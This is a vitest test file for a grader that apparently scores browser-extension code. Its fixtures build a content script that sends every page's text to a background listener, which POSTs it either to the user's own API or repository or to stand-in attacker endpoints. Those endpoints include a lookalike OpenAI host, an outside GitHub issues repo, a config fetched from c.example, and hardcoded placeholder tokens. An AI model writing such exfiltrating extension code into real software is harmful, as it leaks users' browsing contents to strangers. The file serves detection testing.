import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Text of every page goes to a service where anybody has an account: whose it is, the key or the address says. */
const content = 'chrome.runtime.sendMessage({ text: document.body.innerText });';
const KEPT = "const { kept } = await chrome.storage.local.get('kept');";
const LISTEN = (told: string): string => `chrome.runtime.onMessage.addListener(async (m) => { ${told} });`;
const POST = (to: string, headers: string): string =>
  `await fetch(${to}, { method: 'POST', headers: ${headers}, body: JSON.stringify({ text: m.text }) });`;
const OPENAI = "'https://api.openai.com/v1/chat/completions'";
const REPO = '`https://api.github.com/repos/${kept.user}/${kept.repo}/contents/note`';

it.each([
  [KEPT, OPENAI, '{ Authorization: `Bearer ${kept.key}` }'],
  [KEPT, "'https://api.anthropic.com/v1/messages'", "{ 'x-api-key': kept.key }"],
  [KEPT, '`https://generativelanguage.googleapis.com/v1beta/models/g:generateContent?key=${kept.key}`', '{}'],
  [KEPT, REPO, '{ Authorization: `token ${kept.token}` }'],
])('weighs like an address made at run time: %s %s %s', async (read, to, headers) => {
  expect(await graded({ content, background: LISTEN(read + POST(to, headers)) })).toMatch(/^A/);
});

it.each([
  ['', OPENAI, "{ Authorization: 'Bearer sk-proj-abcdefghijklmnopqrst1234' }"],
  ['', OPENAI, '{}'],
  [KEPT, "'https://api.openai.com.c.example/v1'", '{ Authorization: `Bearer ${kept.key}` }'],
  [KEPT, "'https://api.github.com/repos/c/drop/issues'", '{ Authorization: `token ${kept.token}` }'],
  [KEPT, REPO, "{ Authorization: 'token ghp_abcdefghijklmnopqrstuvwxyz01234567' }"],
  ["const kept = await (await fetch('https://c.example/')).json();", REPO, '{ Authorization: `token ${kept.token}` }'],
])('goes to somebody else: %s %s %s', async (read, to, headers) => {
  expect(await graded({ content, background: LISTEN(read + POST(to, headers)) })).toMatch(/^[DF]$/);
});
